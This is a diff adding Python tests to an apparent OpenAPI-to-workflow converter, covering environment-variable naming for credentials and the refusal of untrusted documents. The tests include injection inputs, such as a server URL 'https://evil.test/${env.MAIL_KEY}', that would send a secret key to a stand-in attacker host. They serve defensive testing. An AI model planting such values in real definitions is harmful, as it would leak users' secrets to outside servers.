@@ -401,6 +401,36 @@ def test_security_becomes_authentication(security, authentication, headers):
     assert report.variables == sorted({part.partition("}")[0] for part in text.split("${env.")[1:]})
 
 
+@pytest.mark.parametrize(
+    ("title", "scheme", "name"),
+    [
+        ("Workflow State", "redis url", "API_WORKFLOW_STATE_REDIS_URL"),
+        ("AWS", "secret access key", "API_AWS_SECRET_ACCESS_KEY"),
+        ("", "PATH", "API_PATH"),
+        ("CRM", "key", "CRM_KEY"),
+    ],
+)
+def test_no_name_of_a_variable_is_one_by_which_workers_run(title, scheme, name):
+    """A document may come from anybody, and what it names is sent to its own server."""
+    api_key = {"type": "apiKey", "in": "header", "name": "X-Key"}
+    fields = {"components": {"securitySchemes": {scheme: api_key}}, "info": {"title": title, "version": "1"}}
+    definition, report = the_one({"security": [{scheme: []}]}, **fields)
+    assert definition["authentication"]["value"] == f"${{env.{name}}}"
+    assert report.variables == [name]
+
+
+@pytest.mark.parametrize(
+    ("fields", "more"),
+    [
+        ({}, {"servers": [{"url": "https://evil.test/${env.MAIL_KEY}"}]}),
+        ({}, {"servers": [{"url": "https://evil.test/${v}", "variables": {"v": {"default": "{env.MAIL_KEY}"}}}]}),
+        (body({"type": "string"}, "text/plain; x=${env.MAIL_KEY}"), {}),
+    ],
+)
+def test_a_document_can_not_name_a_variable_itself(fields, more):
+    assert "${env.NAME}" in refused(fields, **more)
+
+
 def test_security_without_a_counterpart_is_told():
     definition, report = the_one({"security": [{"inQuery": []}]}, components={"securitySchemes": SCHEMES})
     assert "authentication" not in definition
